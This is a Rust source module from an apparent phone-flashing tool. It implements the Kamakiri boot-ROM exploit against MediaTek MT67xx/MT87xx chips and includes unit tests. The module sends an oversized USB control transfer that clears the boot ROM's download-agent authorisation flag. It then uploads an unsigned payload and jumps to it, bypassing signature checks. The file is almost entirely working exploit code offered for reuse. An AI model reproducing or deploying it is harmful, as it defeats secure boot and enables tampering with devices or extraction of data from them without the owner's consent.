// SPDX-FileCopyrightText: 2025 The flashcore Authors
// SPDX-License-Identifier: GPL-3.0-or-later

//! Kamakiri (MT67xx/MT87xx BROMs): a crafted USB control transfer
//! corrupts the BROM's download-agent validation state, after which the
//! ordinary `send_da` path accepts unsigned payloads.

use crate::chipdb::ExploitKind;
use crate::error::{ExploitError, Result};
use crate::exploit::{ExploitBridge, ExploitCtx, PayloadResult};
use crate::proto::preloader::Preloader;

/// Device-to-host, class, interface.
const CTRL_REQUEST_TYPE: u8 = 0xA1;
/// Oversized wLength that lands the read past the descriptor buffer and
/// tramples the DA-authorization flag.
const CTRL_OVERREAD_LEN: u16 = 0x02C1;

#[derive(Default)]
pub struct Kamakiri {
    prepared: bool,
}

impl Kamakiri {
    pub fn new() -> Self {
        Self::default()
    }
}

impl ExploitBridge for Kamakiri {
    fn name(&self) -> &'static str {
        "kamakiri"
    }

    fn prepare(&mut self, ctx: &mut ExploitCtx<'_>) -> Result<()> {
        let chip = ctx.chip()?;
        if chip.recommended_exploit != ExploitKind::Kamakiri {
            return Err(ExploitError::UnsupportedChip(chip.name.into()).into());
        }
        let Some(control) = ctx.transport.usb_control() else {
            return Err(ExploitError::UnsupportedChip(format!(
                "{}: kamakiri needs a USB control endpoint",
                chip.name
            ))
            .into());
        };
        // The BROM copies the descriptor reply through the same buffer it
        // keeps the DA-auth verdict in; over-reading clears it.
        control.control_transfer(CTRL_REQUEST_TYPE, 0, 0, 0, &vec![0u8; CTRL_OVERREAD_LEN as usize])?;
        ctx.events.info("kamakiri: validation state corrupted");
        self.prepared = true;
        Ok(())
    }

    fn run_payload(&mut self, ctx: &mut ExploitCtx<'_>, payload: &[u8]) -> Result<PayloadResult> {
        if !self.prepared {
            return Err(ExploitError::PayloadRejected.into());
        }
        let chip = ctx.chip()?;
        let mut brom = Preloader::new(ctx.transport);
        brom.send_da(chip.da_payload_addr, 0, payload)?;
        brom.jump_da(chip.da_payload_addr)?;
        Ok(PayloadResult {
            bytes: payload.len(),
            jumped: true,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chipdb;
    use crate::error::Error;
    use crate::event::Events;
    use crate::transport::testing::ScriptedTransport;

    #[test]
    fn refuses_serial_transports() {
        let mut t = ScriptedTransport::new(vec![]);
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x0766),
            events: &Events::default(),
        };
        match Kamakiri::new().prepare(&mut ctx) {
            Err(Error::Exploit(ExploitError::UnsupportedChip(_))) => {}
            other => panic!("unexpected: {other:?}"),
        }
    }

    #[test]
    fn refuses_wrong_chip() {
        let mut t = ScriptedTransport::new(vec![]);
        t.with_control = true;
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x8173),
            events: &Events::default(),
        };
        assert!(Kamakiri::new().prepare(&mut ctx).is_err());
    }

    #[test]
    fn issues_the_overread_control_transfer() {
        let mut t = ScriptedTransport::new(vec![]);
        t.with_control = true;
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x0766),
            events: &Events::default(),
        };
        Kamakiri::new().prepare(&mut ctx).unwrap();
        assert_eq!(t.control_log.len(), 1);
        let (rt, req, val, idx, data) = &t.control_log[0];
        assert_eq!((*rt, *req, *val, *idx), (CTRL_REQUEST_TYPE, 0, 0, 0));
        assert_eq!(data.len(), CTRL_OVERREAD_LEN as usize);
    }

    #[test]
    fn payload_requires_prepare() {
        let mut t = ScriptedTransport::new(vec![]);
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x0766),
            events: &Events::default(),
        };
        assert!(Kamakiri::new().run_payload(&mut ctx, &[0u8; 4]).is_err());
    }
}
